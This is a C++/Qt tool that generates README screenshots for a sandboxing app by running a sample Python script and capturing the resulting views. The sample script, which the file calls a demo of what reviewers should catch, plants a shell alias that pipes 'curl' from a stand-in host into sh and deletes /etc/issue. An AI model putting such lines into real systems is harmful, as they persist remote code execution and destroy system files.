// Makes the README's screenshots from the real app: drives the window
// through a real run and saves what it shows.
//   build/tools/screenshots/sandbox-studio-screenshots docs/screenshots
#include "ui/ChangesView.h"
#include "ui/CodeEditor.h"
#include "ui/FilesPanel.h"
#include "ui/MainWindow.h"
#include "ui/PasteSourcePage.h"
#include "ui/RunTab.h"
#include "ui/SourcePanel.h"
#include "util/Translations.h"

#include <QApplication>
#include <QDir>
#include <QEventLoop>
#include <QLineEdit>
#include <QSettings>
#include <QTabWidget>
#include <QToolBox>
#include <QTemporaryDir>
#include <QTimer>

#include <cstdio>

namespace {

bool saveWindow(QWidget& window, const QString& path)
{
    QApplication::processEvents();
    const bool ok = window.grab().save(path);
    std::fprintf(stderr, "%s %s\n", ok ? "saved" : "FAILED to save", qPrintable(path));
    return ok;
}

void waitFor(ui::MainWindow& window, int msecs)
{
    QEventLoop loop;
    QObject::connect(&window, &ui::MainWindow::historyUpdated, &loop, &QEventLoop::quit);
    QTimer::singleShot(msecs, &loop, &QEventLoop::quit);
    loop.exec();
}

} // namespace

int main(int argc, char* argv[])
{
    QApplication app(argc, argv);
    // The window's remembered state must not change the pictures.
    QTemporaryDir settings;
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, settings.path());
    QApplication::setApplicationName(QStringLiteral("sandbox-studio"));
    QApplication::setApplicationDisplayName(QStringLiteral("Sandbox Studio"));
    sandbox::installTranslations();
    const QString outDir = argc > 1 ? QString::fromLocal8Bit(argv[1]) : QStringLiteral("docs/screenshots");
    QDir().mkpath(outDir);

    ui::MainWindow window;
    window.resize(1200, 760);
    window.show();
    // Paste mode with highlighted Python on the left.
    window.sourcePanel()->pastePage()->editor()->setPlainText(QStringLiteral(
        "import os\nimport pathlib\nimport platform\nimport sys\n\n\ndef main() -> int:\n"
        "    print('Hello from', platform.node())\n"
        "    print('python', platform.python_version())\n"
        "    pathlib.Path('report.txt').write_text('rows: 3\\nstatus: ok\\n')\n"
        "    # What a reviewer wants to catch: edits outside the project.\n"
        "    with open('/etc/bash.bashrc', 'a') as rc:\n"
        "        rc.write('alias ls=\"curl -s example.invalid | sh\"\\n')\n"
        "    os.remove('/etc/issue')\n"
        "    print('a warning on stderr', file=sys.stderr)\n"
        "    return 3\n\n\nif __name__ == '__main__':\n    sys.exit(main())\n"));
    window.sourcePanel()->pastePage()->chooseLanguage(QStringLiteral("Python"));
    // The pasted file lands in the sandbox's /workspace and runs from there.
    window.commandEdit()->setText(QStringLiteral("python3 main.py"));
    window.commandEdit()->setCursorPosition(0);
    window.launch();
    waitFor(window, 300000);
    QTimer::singleShot(300, &app, &QApplication::quit);
    QApplication::exec();
    bool ok = saveWindow(window, outDir + QStringLiteral("/main-window.png"));

    // What the run changed, with the diff of a file outside /workspace.
    ui::RunTab* tab = window.currentRunTab();
    tab->views()->setCurrentWidget(tab->changesView());
    tab->changesView()->refresh();
    if (!tab->changesView()->showChange(QStringLiteral("/etc/bash.bashrc"))) {
        std::fprintf(stderr, "the Changes view does not list /etc/bash.bashrc\n");
        ok = false;
    }
    ok = saveWindow(window, outDir + QStringLiteral("/changes-view.png")) && ok;

    // The file the run wrote, in the Files view.
    tab->views()->setCurrentWidget(tab->filesPanel());
    tab->filesPanel()->refresh();
    if (!tab->filesPanel()->reveal(QStringLiteral("/workspace/report.txt"))) {
        std::fprintf(stderr, "the Files view does not show /workspace/report.txt\n");
        ok = false;
    }
    tab->filesPanel()->openFile(QStringLiteral("/workspace/main.py"));
    ok = saveWindow(window, outDir + QStringLiteral("/files-view.png")) && ok;

    // The image section of the form.
    tab->views()->setCurrentIndex(0); // the terminal
    window.formSections()->setCurrentIndex(1);
    ok = saveWindow(window, outDir + QStringLiteral("/image-section.png")) && ok;
    return ok ? 0 : 1;
}
